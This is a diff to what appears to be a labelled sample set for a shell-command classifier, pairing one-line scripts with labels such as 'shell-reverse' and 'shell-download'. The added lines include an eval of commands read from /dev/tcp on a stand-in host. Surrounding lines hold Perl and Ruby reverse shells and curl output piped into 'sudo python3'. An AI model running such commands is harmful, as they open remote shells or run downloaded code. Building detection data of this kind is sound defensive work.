@@ -32,6 +32,9 @@ perl -MIO::Socket -e '$c=new IO::Socket::INET("x.example:1");while(<$c>){print $
 ## Ruby that calls back = shell-reverse
 #!/bin/sh
 ruby -rsocket -e 's=TCPSocket.new("x.example",1);while l=s.gets;IO.popen(l){|o|s.print o.read};end'
+## an order that is read from a place = shell-reverse
+#!/bin/bash
+eval "$(</dev/tcp/x.example/1)"
 ## an answer that Python runs in the middle = shell-download
 #!/bin/bash
 curl -sf https://x.example/a.py | sudo python3 | sort -u
@@ -78,6 +81,10 @@ curl -sf https://x.example/a.json | python3 -m json.tool | sort -u
 #!/bin/bash
 nc -v -l -p 8000 -e dist.sh
 until (exec 3<>/dev/tcp/127.0.0.1/8000) 2>/dev/null; do sleep 1; done
+## a port that is asked for
+#!/bin/bash
+(echo > /dev/tcp/db.x.example/5432) >/dev/null 2>&1 && echo ready
+timeout 1 bash -c '</dev/tcp/db.x.example/5432'
 ## a decoded picture
 #!/bin/sh
 base64 -d logo.txt > /tmp/logo.png
